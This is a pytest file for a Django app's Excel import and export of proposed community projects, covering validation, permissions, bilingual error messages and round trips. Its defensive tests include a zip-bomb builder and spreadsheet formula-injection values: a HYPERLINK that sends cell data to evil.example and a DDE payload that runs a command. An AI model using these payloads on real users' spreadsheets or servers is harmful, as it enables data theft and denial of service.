"""Excel import and export: the same columns both ways; a bad sheet stores nothing."""

import html
import io
import re
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from openpyxl import Workbook, load_workbook

from projects.excel import COLUMNS, Lookups, parse_row
from projects.models import Candidate, CandidateSource, Category, SourceKind, Status
from tests import workbooks
from tests.conftest import Cast, client_for

HEADER_ZH = [
    "项目名称",
    "类别",
    "年度",
    "联络站",
    "项目背景",
    "建设内容",
    "责任单位",
    "投资金额（万元）",
    "资金来源",
    "可行性说明",
    "计划完成日期",
    "地址",
    "纬度",
    "经度",
    "提出人类型",
    "提出人",
    "提出日期",
]


def _row(**overrides: Any) -> list[Any]:
    values = {
        "项目名称": "梅林小学午休改造",
        "类别": "教育",
        "年度": 2027,
        "联络站": "东区联络站",
        "建设内容": "配置午休课桌椅。",
        "投资金额（万元）": 95,
        "计划完成日期": "2027-08-31",
        "纬度": 29.285,
        "经度": 121.4402,
        "提出人类型": "群众",
        "提出人": "梅林社区居民",
        "提出日期": "2026-09-12",
    }
    values.update(overrides)
    return [values.get(h) for h in HEADER_ZH]


def _sheet(*rows: list[Any], header: list[str] = HEADER_ZH) -> SimpleUploadedFile:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return SimpleUploadedFile("candidates.xlsx", out.getvalue())


def _import(cast: Cast, user: Any, upload: SimpleUploadedFile, lang: str = "zh-hans") -> Any:
    client = client_for(user, language=lang)
    return client.post(
        reverse("candidates_import", kwargs={"body": cast.body.slug}), {"file": upload}
    )


PROBLEM_ROW = re.compile(
    r'<tr><td class="import-line">(.*?)</td><td class="import-column">(.*?)</td>'
    r"<td>(.*?)</td></tr>",
    re.S,
)


def _problems(response: Any) -> list[tuple[str, str, str]]:
    """The page's table of problems: (row, column, problem) as the page shows them."""
    page = response.content.decode()
    return [
        (html.unescape(line), html.unescape(column), html.unescape(problem))
        for line, column, problem in PROBLEM_ROW.findall(page)
    ]


def _nothing_stored() -> bool:
    return Candidate.objects.count() == CandidateSource.objects.count() == 0


def test_a_good_sheet_becomes_drafts_with_their_sources(cast: Cast) -> None:
    response = _import(cast, cast.east_staff, _sheet(_row(), _row(项目名称="青山路路灯")))
    assert response.status_code == 302
    drafts = Candidate.objects.order_by("name")
    assert [c.name for c in drafts] == ["梅林小学午休改造", "青山路路灯"]
    assert {c.status for c in drafts} == {Status.DRAFT}
    first = drafts.get(name="梅林小学午休改造")
    assert first.category == "education" and str(first.investment_wan) == "95.00"
    assert first.sources.get().name == "梅林社区居民"


def test_every_problem_of_every_row_is_listed_with_its_column(cast: Cast) -> None:
    upload = _sheet(
        _row(),
        _row(类别="火箭发射", 计划完成日期="明年春天", **{"投资金额（万元）": "三百万"}),
        _row(联络站="不存在的站"),
        _row(建设内容=None, 提出人=None),
        _row(年度="明年"),
    )
    response = _import(cast, cast.congress, upload, lang="en")
    assert response.status_code == 400
    with translation.override("en"):
        categories = ", ".join(str(label) for label in Category.labels)
    assert _problems(response) == [
        ("3", "Category", f"Unknown value “火箭发射”; use one of {categories}."),
        ("3", "Investment (10,000 yuan)", "Must be a number."),
        ("3", "Planned completion", "Must be a date such as 2027-06-30."),
        ("4", "Liaison station", "No liaison station named “不存在的站” in this congress."),
        ("5", "Content", "Required; this cell is empty."),
        ("5", "Proposer", "Required; this cell is empty."),
        ("6", "Year", "Must be a year such as 2027."),
    ]
    page = response.content.decode()
    assert "7 problems found; nothing was imported." in page
    assert '<th scope="col">Row</th><th scope="col">Column</th>' in page
    assert _nothing_stored()


def test_the_problems_name_rows_and_columns_in_chinese(cast: Cast) -> None:
    upload = _sheet(
        _row(), _row(类别="火箭发射", **{"投资金额（万元）": "三百万"}), _row(建设内容=None)
    )
    response = _import(cast, cast.congress, upload)
    assert response.status_code == 400
    assert [(line, column) for line, column, _problem in _problems(response)] == [
        ("3", "类别"),
        ("3", "投资金额（万元）"),
        ("4", "建设内容"),
    ]
    assert "未导入任何数据" in response.content.decode()
    assert _nothing_stored()


def test_a_station_cannot_import_rows_for_another_station(cast: Cast) -> None:
    response = _import(cast, cast.east_staff, _sheet(_row(), _row(联络站="西区联络站")), lang="en")
    assert _problems(response) == [
        (
            "3",
            "Liaison station",
            "You may only file candidates for your own station, not for “西区联络站”.",
        )
    ]
    assert _nothing_stored()


def test_a_row_that_breaks_a_model_rule_is_reported_in_its_column(cast: Cast) -> None:
    response = _import(cast, cast.congress, _sheet(_row(纬度=95, 年度=1999)), lang="en")
    assert _problems(response) == [
        ("2", "Year", "Ensure this value is greater than or equal to 2000."),
        ("2", "Latitude", "Ensure this value is less than or equal to 90."),
    ]
    assert _nothing_stored()


@pytest.mark.parametrize(
    ("lang", "columns"), [("en", "Latitude, Longitude"), ("zh-hans", "纬度、经度")]
)
def test_half_a_map_point_names_both_columns_and_no_constraint(
    cast: Cast, lang: str, columns: str
) -> None:
    response = _import(cast, cast.congress, _sheet(_row(), _row(经度=None)), lang=lang)
    assert response.status_code == 400
    [(line, column, _problem)] = _problems(response)
    assert (line, column) == ("3", columns)
    page = response.content.decode()
    assert "__all__" not in page
    assert "candidate_point_complete" not in page
    assert _nothing_stored()


def test_half_a_map_point_says_what_to_do(cast: Cast) -> None:
    response = _import(cast, cast.congress, _sheet(_row(纬度=None)), lang="en")
    assert _problems(response) == [
        (
            "2",
            "Latitude, Longitude",
            "Latitude and longitude go together: fill in both, or leave both empty.",
        )
    ]


def test_a_proposer_too_long_for_the_source_is_named_as_the_proposer(cast: Cast) -> None:
    response = _import(cast, cast.congress, _sheet(_row(提出人="居" * 130)), lang="en")
    assert _problems(response) == [
        ("2", "Proposer", "Ensure this value has at most 120 characters (it has 130)."),
    ]
    assert _nothing_stored()


def test_the_page_says_the_size_and_row_limits(cast: Cast, settings: Any) -> None:
    url = reverse("candidates_import", kwargs={"body": cast.body.slug})
    page = client_for(cast.congress, language="en").get(url).content.decode()
    assert "At most 5.0\xa0MB and 2000 data rows per file." in page
    settings.IMPORT_MAX_BYTES = 2048
    settings.IMPORT_MAX_ROWS = 30
    page = client_for(cast.congress).get(url).content.decode()
    [said] = re.findall(r'<small class="muted">(.*?)</small>', page)  # under the file field
    assert "2.0\xa0KB" in said and "30" in said


def _lookups(cast: Cast, *, may_file: bool = True) -> Lookups:
    from projects.excel import _choice_lookup

    return Lookups(
        stations={s.name: s for s in (cast.east, cast.west)},
        categories=_choice_lookup(Category),
        kinds=_choice_lookup(SourceKind),
        may_file_at=lambda _station: may_file,
    )


def _raw(**overrides: Any) -> dict[str, Any]:
    """A row as the importer reads it: by column key."""
    with translation.override("zh-hans"):
        keys = {str(c.label): c.key for c in COLUMNS}
    return {keys[h]: v for h, v in zip(HEADER_ZH, _row(**overrides), strict=True)}


def test_the_row_checker_keeps_every_problem_of_a_row(cast: Cast) -> None:
    with translation.override("en"):
        parsed, problems = parse_row(
            _raw(
                项目名称="梅林\n小学",
                年度=2027.5,
                提出人类型="外星人",
                纬度="北纬29度",
                提出人=None,
            ),
            _lookups(cast),
        )
    assert parsed is None
    assert [keys for keys, _message in problems] == [  # left to right, as in the sheet
        ("name",),
        ("year",),
        ("latitude",),
        ("source_kind",),
        ("source_name",),
    ]
    assert [message for _keys, message in problems] == [
        "This must be a single line: remove the line break or tab.",
        "Must be a year such as 2027.",
        "Must be a number.",
        "Unknown value “外星人”; use one of Residents, Representative, Department.",
        "Required; this cell is empty.",
    ]


def test_the_row_checker_reads_a_good_row(cast: Cast) -> None:
    parsed, problems = parse_row(_raw(年度=2027.0, 联络站="西区联络站"), _lookups(cast))
    assert problems == []
    assert parsed is not None
    assert (parsed.station, parsed.data["year"], parsed.data["category"]) == (
        cast.west,
        2027,
        "education",
    )
    assert parsed.source["kind"] == "resident"


def test_the_row_checker_refuses_a_station_not_ones_own(cast: Cast) -> None:
    parsed, problems = parse_row(_raw(), _lookups(cast, may_file=False))
    assert parsed is None
    assert [keys for keys, _message in problems] == [("station",)]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"not a workbook at all", "这不是 Excel 工作簿（.xlsx）"),
        (None, "项目名称、类别、年度、联络站、建设内容、提出人类型、提出人"),  # the missing columns
    ],
)
def test_a_file_that_is_not_our_sheet_is_refused(
    cast: Cast, content: bytes | None, message: str
) -> None:
    upload = (
        SimpleUploadedFile("x.xlsx", content)
        if content
        else _sheet(_row(), header=["名称", "其他"])
    )
    response = _import(cast, cast.congress, upload)
    assert response.status_code == 400
    [(line, column, problem)] = _problems(response)
    assert not any(char.isdigit() for char in line + column)  # the whole file: no row, no column
    assert message in problem
    assert "第 0 行" not in response.content.decode()
    assert _nothing_stored()


def test_a_header_without_the_required_columns_names_them(cast: Cast) -> None:
    upload = _sheet(_row(), header=["项目名称", "类别", "其他"])
    response = _import(cast, cast.congress, upload, lang="en")
    assert response.status_code == 400
    assert _problems(response) == [
        (
            "Whole file",
            "—",
            "The header row lacks the required columns Year, Liaison station, Content, "
            "Raised by, Proposer. Download the empty sheet below for the right columns.",
        )
    ]
    page = response.content.decode()
    assert "1 problem found; nothing was imported." in page
    assert "Row 0" not in page
    assert _nothing_stored()


def test_a_sheet_without_data_rows_is_refused_whole(cast: Cast) -> None:
    response = _import(cast, cast.congress, _sheet(), lang="en")
    assert response.status_code == 400
    assert _problems(response) == [("Whole file", "—", "The sheet has no data rows.")]


def test_export_then_import_gives_the_same_candidates(cast: Cast, draft: Candidate) -> None:
    client = client_for(cast.congress)
    exported = client.get(reverse("candidates_export", kwargs={"body": cast.body.slug}))
    assert exported.status_code == 200
    sheet = load_workbook(io.BytesIO(exported.content)).active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    assert header == HEADER_ZH == [str(c.label) for c in COLUMNS]
    draft_fields = {f: getattr(draft, f) for f in ("name", "category", "investment_wan")}
    proposer = draft.sources.get().name
    Candidate.objects.all().delete()
    response = _import(cast, cast.congress, SimpleUploadedFile("again.xlsx", exported.content))
    assert response.status_code == 302
    again = Candidate.objects.get()
    assert {f: getattr(again, f) for f in draft_fields} == draft_fields
    assert (again.latitude, again.longitude, again.planned_completion) == (
        draft.latitude,
        draft.longitude,
        draft.planned_completion,
    )
    assert again.sources.get().name == proposer


def test_an_english_export_imports_as_well(cast: Cast, draft: Candidate) -> None:
    exported = client_for(cast.congress, language="en").get(
        reverse("candidates_export", kwargs={"body": cast.body.slug})
    )
    sheet = load_workbook(io.BytesIO(exported.content)).active
    assert sheet is not None
    assert sheet["A1"].value == "Project name" and sheet["B2"].value == "Environment"
    response = _import(cast, cast.congress, SimpleUploadedFile("en.xlsx", exported.content))
    assert response.status_code == 302
    assert Candidate.objects.count() == 2


def test_export_reads_all_candidates_in_a_fixed_number_of_queries(
    cast: Cast, draft: Candidate, django_assert_max_num_queries: Any
) -> None:
    from projects.services import candidate_create
    from tests.conftest import SOURCE, candidate_data

    for n in range(10):
        candidate_create(
            actor=cast.congress,
            station=cast.east,
            data=candidate_data(name=f"项目{n}"),
            source=SOURCE,
        )
    client = client_for(cast.congress)
    with django_assert_max_num_queries(12):
        response = client.get(reverse("candidates_export", kwargs={"body": cast.body.slug}))
    assert load_workbook(io.BytesIO(response.content)).active.max_row == 12  # type: ignore[union-attr]


# Hostile and broken files: each is refused whole, with a reason and no line number, and
# nothing is stored. The file kinds are built in tests/workbooks.py.


def _good_file() -> bytes:
    content: bytes = _sheet(_row()).read()
    return content


@pytest.mark.parametrize("kind", sorted(workbooks.BROKEN_FILE_MESSAGES))
def test_a_broken_or_protected_file_is_refused_whole_with_its_reason(cast: Cast, kind: str) -> None:
    content = workbooks.broken_files(_good_file())[kind]
    response = _import(cast, cast.congress, SimpleUploadedFile("x.xlsx", content), lang="en")
    page = response.content.decode()
    assert response.status_code == 400
    [(line, column, problem)] = _problems(response)
    assert (line, column) == ("Whole file", "—")
    assert workbooks.BROKEN_FILE_MESSAGES[kind] in problem
    assert "Row 0" not in page
    assert _nothing_stored()


def test_a_whole_file_error_has_no_line_number(cast: Cast) -> None:
    response = _import(cast, cast.congress, SimpleUploadedFile("x.xlsx", b"not a workbook"))
    page = response.content.decode()
    assert "这不是 Excel 工作簿（.xlsx）" in page
    assert "第 0 行" not in page
    [(line, _column, _problem)] = _problems(response)
    assert not any(char.isdigit() for char in line)


def _with_content_cell(text_bytes: bytes) -> bytes:
    """The good file with its content cell's text replaced, written straight into the XML."""
    good = _good_file()
    xml = workbooks.sheet_xml(good)
    marker = "配置午休课桌椅。".encode()
    assert marker in xml
    return workbooks.rezip(
        good, replace={"xl/worksheets/sheet1.xml": xml.replace(marker, text_bytes)}
    )


def test_a_zip_bomb_is_refused_before_anything_is_unpacked(
    cast: Cast, monkeypatch: pytest.MonkeyPatch
) -> None:
    # 25 MB of text in one cell packs into a file of a few tens of KB.
    bomb = _with_content_cell(b"A" * 25_000_000)
    assert len(bomb) < 100_000

    def unpacked(*args: object) -> None:
        raise AssertionError("the workbook was unpacked")

    monkeypatch.setattr("openpyxl.reader.excel.ExcelReader.read", unpacked)
    response = _import(cast, cast.congress, SimpleUploadedFile("bomb.xlsx", bomb), lang="en")
    page = response.content.decode()
    assert response.status_code == 400
    assert "The workbook unpacks to more than 20.0\xa0MB" in page
    assert Candidate.objects.count() == 0


def test_a_workbook_of_too_many_parts_is_refused(cast: Cast) -> None:
    parts = {f"xl/media/image{n}.png": b"x" for n in range(600)}
    content = workbooks.rezip(_good_file(), add=parts)
    response = _import(cast, cast.congress, SimpleUploadedFile("parts.xlsx", content), lang="en")
    assert "The workbook is made of more than 500 parts" in response.content.decode()
    assert Candidate.objects.count() == 0


def test_a_cell_longer_than_the_limit_is_refused_with_its_row(cast: Cast) -> None:
    upload = _sheet(_row(), _row(建设内容="长" * 5001))
    response = _import(cast, cast.congress, upload, lang="en")
    assert response.status_code == 400
    assert _problems(response) == [("3", "Content", "Longer than 5000 characters.")]
    assert _nothing_stored()


def test_a_cell_at_the_limit_is_taken(cast: Cast) -> None:
    response = _import(cast, cast.congress, _sheet(_row(建设内容="长" * 5000)))
    assert response.status_code == 302
    assert len(Candidate.objects.get().content) == 5000


def test_too_many_rows_are_refused_as_a_whole(cast: Cast, settings: Any) -> None:
    settings.IMPORT_MAX_ROWS = 3
    upload = _sheet(*[_row(项目名称=f"项目{n}") for n in range(4)])
    response = _import(cast, cast.congress, upload, lang="en")
    assert response.status_code == 400
    assert _problems(response) == [
        ("Whole file", "—", "The sheet has more than 3 rows; split it into several files.")
    ]
    assert _nothing_stored()


def test_a_sheet_reaching_far_below_its_data_is_refused(cast: Cast) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADER_ZH)
    sheet.append(_row())
    sheet.cell(row=25_000, column=1, value="梅林小学午休改造")
    out = io.BytesIO()
    book.save(out)
    upload = SimpleUploadedFile("far.xlsx", out.getvalue())
    response = _import(cast, cast.congress, upload, lang="en")
    page = response.content.decode()
    assert response.status_code == 400
    assert "The sheet runs past row 20000;" in page
    assert Candidate.objects.count() == 0


def test_an_oversized_upload_is_refused_by_the_form(cast: Cast, settings: Any) -> None:
    settings.IMPORT_MAX_BYTES = 2048
    upload = SimpleUploadedFile("big.xlsx", b"PK" + bytes(5000))
    response = _import(cast, cast.congress, upload, lang="en")
    page = response.content.decode()
    assert response.status_code == 400
    assert "the limit is 2.0\xa0KB." in page
    assert "Row 0" not in page


@pytest.mark.parametrize(
    ("overrides", "message"),
    [
        ({"项目名称": "梅林\x85小学"}, ("2", "Project name", "This text contains an invisible")),
        ({"建设内容": "配置\x7f课桌椅"}, ("2", "Content", "This text contains an invisible")),
        ({"提出人": "梅林\n社区"}, ("2", "Proposer", "This must be a single line")),
    ],
)
def test_control_characters_in_a_row_are_refused(
    cast: Cast, overrides: dict[str, str], message: tuple[str, str, str]
) -> None:
    response = _import(cast, cast.congress, _sheet(_row(**overrides)), lang="en")
    assert response.status_code == 400
    [(line, column, problem)] = _problems(response)
    assert (line, column) == message[:2]
    assert problem.startswith(message[2])
    assert _nothing_stored()


def test_line_breaks_in_a_long_text_cell_are_kept(cast: Cast) -> None:
    response = _import(cast, cast.congress, _sheet(_row(建设内容="配置课桌椅。\n更换照明。")))
    assert response.status_code == 302
    assert Candidate.objects.get().content == "配置课桌椅。\n更换照明。"


FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A2,"点击查看")',
    "content": "+1+cmd|' /C calc'!A0",
    "implementing_unit": "-2+3",
    "funding_source": "@SUM(1,2)",
    "address": "\t=1+1",
    "feasibility": "＝1+1",
}


def test_text_that_looks_like_a_formula_is_exported_as_text(cast: Cast) -> None:
    from projects.services import candidate_create
    from tests.conftest import SOURCE, candidate_data

    candidate_create(
        actor=cast.congress, station=cast.east, data=candidate_data(**FORMULAS), source=SOURCE
    )
    exported = client_for(cast.congress).get(
        reverse("candidates_export", kwargs={"body": cast.body.slug})
    )
    sheet = load_workbook(io.BytesIO(exported.content)).active
    assert sheet is not None
    at = {c.key: index for index, c in enumerate(COLUMNS)}
    row = sheet[2]
    for key, text in FORMULAS.items():
        cell = row[at[key]]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True), key
    assert row[at["station"]].quotePrefix is False  # ordinary text is left as it is
    assert row[at["investment_wan"]].data_type == "n"  # and numbers stay numbers
